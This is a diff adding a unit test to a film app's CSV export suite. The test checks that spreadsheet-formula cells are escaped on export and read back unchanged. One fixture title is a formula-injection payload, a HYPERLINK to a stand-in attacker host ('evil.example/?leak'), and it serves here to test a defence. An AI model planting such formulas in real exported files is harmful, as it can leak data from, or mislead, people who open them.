@@ -156,6 +156,26 @@ describe('CSV export', () => {
     expect(await described(target)).toEqual(await described(source));
   });
 
+  it('defuses cells a spreadsheet would run as formulae, and reads them back as they were', async () => {
+    const planted = [
+      film({ id: 'imp-f1', title: '=HYPERLINK("http://evil.example/?leak","Click me")', year: 2001, genres: ['Drama'], rating: null }),
+      film({ id: 'imp-f2', title: '@SUM(1+1)', year: 2002, genres: ['Comedy'], rating: null }),
+      film({ id: 'imp-f3', title: '+1 Year', year: 2003, genres: ['Comedy'], rating: null }),
+      film({ id: 'imp-f4', title: '-Heat-', year: 2004, genres: ['Action'], rating: null }),
+    ];
+    const filmsCsv = filmsToCsv(planted);
+    const cells = filmsCsv.split('\n').slice(1, 5).map((line) => line.split(',')[0]);
+    expect(cells).toEqual(['"\'=HYPERLINK(""http://evil.example/?leak""', '"\'@SUM(1+1)"', '"\'+1 Year"', '"\'-Heat-"']);
+    const preview = await previewCsvImport(filmsCsv, { known: new Set() });
+    if (!preview.ok) throw new Error(preview.message);
+    expect(preview.films.map((f) => f.title)).toEqual(planted.map((f) => f.title));
+    const vote: Feedback = { filmId: 'imp-f1', vote: 'up', emotion: 'happy', at: Date.UTC(2024, 4, 1) };
+    const feedbackCsv = feedbackToCsv([vote], planted);
+    expect(feedbackCsv.split('\n')[1]).toMatch(/^"'=HYPERLINK/u);
+    const read = await readFeedbackCsv(feedbackCsv.replace(',imp-f1', ','), planted);
+    expect(read.ok && read.feedback).toEqual([vote]);
+  });
+
   it('lists feedback lines it cannot place', async () => {
     const text = [
       'title,year,vote,emotion,at,filmId', // 1
